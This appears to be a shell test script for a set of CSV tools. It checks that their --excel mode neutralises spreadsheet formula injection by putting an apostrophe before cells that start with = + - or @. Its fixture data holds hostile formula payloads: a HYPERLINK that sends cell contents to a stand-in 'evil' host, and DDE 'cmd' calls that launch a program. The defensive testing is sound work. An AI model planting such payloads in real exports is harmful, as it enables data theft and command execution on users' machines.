# Hostile text in the data: with --excel, a text cell that a spreadsheet
# would take for a formula (= + - @ first) is written behind an apostrophe,
# by every program that writes CSV. (Hostile names against gnuplot are in
# plot.sh, against the HTML page in report.sh.)
. "$CL_TESTS/lib.sh"
cat > "$T/sales.csv" <<'X'
customer,invoice,date,amount,segment
"=HYPERLINK(""http://evil/?""&A1)",1,2024-01-10,10,@SUM(A1:A9)
+cmd|' /C calc'!A0,2,2024-01-11,20,-2+3
@SUM(1+1),3,2024-01-12,5,=1+1
X
cl-rollup --group segment --excel "$T/sales.csv" > "$T/rollup-excel.csv" 2>/dev/null
cl-rollup --group segment "$T/sales.csv" > "$T/rollup.csv" 2>/dev/null
printf 'segment,effective,ncr,clients\n"=cmd|x",100,10,5\n@evil,50,5,1\n' > "$T/market.csv"

check_neutral() {   # NAME FILE
    # no field may start with = + - @ unless quoted behind an apostrophe
    bad=$(tr -d '\r' < "$2" | awk -F';' '{ for (i = 1; i <= NF; i++) if ($i ~ /^"?[=+@]/ && $i !~ /^"'"'"'/) print $i }')
    t_eq "hostile: $1 --excel writes no formula" "$bad" ""
}
check_neutral cl-rollup "$T/rollup-excel.csv"
t_grep "hostile: cl-rollup --excel keeps the text, behind an apostrophe" "\"'=HYPERLINK(\"\"http://evil/?\"\"&A1)\"" "$T/rollup-excel.csv"
cl-pareto --excel "$T/rollup.csv" > "$T/out.csv" 2>/dev/null; check_neutral cl-pareto "$T/out.csv"
cl-score --grid revenue=1 --excel "$T/rollup.csv" > "$T/out.csv" 2>/dev/null; check_neutral cl-score "$T/out.csv"
cl-kmeans --features revenue --k 1 --excel "$T/rollup.csv" > "$T/out.csv" 2>/dev/null; check_neutral cl-kmeans "$T/out.csv"
cl-share --excel "$T/market.csv" > "$T/out.csv" 2>/dev/null; check_neutral cl-share "$T/out.csv"
t_grep "hostile: cl-share --excel keeps the segment, behind an apostrophe" "\"'=cmd|x\"" "$T/out.csv"
# without --excel, the text is data written as it came (RFC 4180 quoting only)
t_grep "hostile: plain CSV keeps the text exactly" '"=HYPERLINK(""http://evil/?""&A1)"' "$T/rollup.csv"
